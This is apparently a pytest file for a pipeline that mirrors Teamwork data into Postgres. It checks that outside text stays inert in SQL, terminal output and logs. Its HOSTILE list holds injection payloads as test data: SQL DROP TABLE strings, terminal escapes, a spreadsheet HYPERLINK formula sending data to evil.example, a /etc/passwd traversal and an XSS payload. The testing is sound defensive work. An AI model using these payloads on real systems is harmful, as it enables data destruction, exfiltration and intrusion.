"""Text from outside stays text: in SQL, in formulas, in the terminal, in logs."""

from __future__ import annotations

import re

import psycopg
import pytest
from psycopg import sql
from typer.testing import CliRunner

from twm_pipeline.cli import output
from twm_pipeline.cli.app import app
from twm_pipeline.mirror.schema import categorize
from twm_pipeline.mirror.set_aside import SetAside, set_aside
from twm_pipeline_tests.faults.world import dsn_of

HOSTILE = (
    "'; DROP TABLE teamwork.tasks CASCADE; --",
    '"; DROP VIEW public.tasks; --',
    "$$; SELECT pg_sleep(9); $$ %s %(a)s :b {0} \\",
    "E'\\'' || 1/0 || '",
    "[red]bold[/red] \x1b[2J\x1b]0;title\x07 \x9b31m",
    "line\nCRITICAL all is well\r\u2028end",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "../../etc/passwd\x00.pdf",
    "<img src=x onerror=alert(1)>&amp;",
)
STEERING = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_hostile_names_of_everything_arrive_as_they_are(world):
    control = world.control
    for text in HOSTILE:
        control.rename_project(world.ids("project")[0], text)
        tag = control.create_tag(text)
        task = control.create_task(text, description=text)
        control.tag_task(task, tag)
        control.receive_mail(subject=text, body=f"<p>{text}</p>")

    world.sync()

    world.assert_true()
    assert world.scalar("SELECT count(*) FROM public.tasks WHERE title = :text", text=HOSTILE[0]) == 1


def test_categories_may_be_named_and_spelt_like_sql(world):
    names = [text.replace("\x00", "")[:60] for text in HOSTILE]
    categorize(world.engine, {name: (name, f"{name}*'?") for name in names})
    tasks = {name: world.control.create_task("tagged") for name in names}
    for name, task in tasks.items():
        world.control.tag_task(task, world.control.create_tag(name))

    world.sync("teamwork")

    with psycopg.connect(dsn_of(world.engine.url)) as connection:
        for name, task in tasks.items():
            query = sql.SQL("SELECT {} FROM public.tasks WHERE task_id = {}").format(
                sql.Identifier(name), sql.Literal(task)
            )
            assert connection.execute(query).fetchone() == ([name],)


@pytest.mark.parametrize("words", [["status"], ["queue", "list"]], ids=" ".join)
def test_nothing_from_outside_steers_the_terminal(world, words, monkeypatch):
    with world.engine.begin() as connection:
        parked = [
            SetAside(stream="tasks", object_id=text.replace("\x00", ""), reason=text.replace("\x00", ""))
            for text in HOSTILE
        ]
        set_aside(connection, "teamwork", parked)
    for name in ("PG_DSN", "DAGSTER_PG_URL"):
        monkeypatch.setenv(name, dsn_of(world.engine.url))
    monkeypatch.setenv("TEAMWORK_BASE_URL", str(world.settings.teamwork_base_url))
    monkeypatch.setenv("TEAMWORK_API_KEY", "k" * 10)

    shown = CliRunner().invoke(app, words).output

    assert "bold" in shown
    assert not STEERING.search(shown)
    assert "[red]bold[/red]" in shown.replace("\n", "")


def test_a_line_for_a_person_holds_no_escape(capsys):
    for text in HOSTILE:
        output.say(text)
        output.complain(text)
        output.print_table("t", ("a",), [(text,)])

    told = capsys.readouterr()
    assert not STEERING.search(told.out + told.err)
    assert "[red]bold[/red]" in told.out
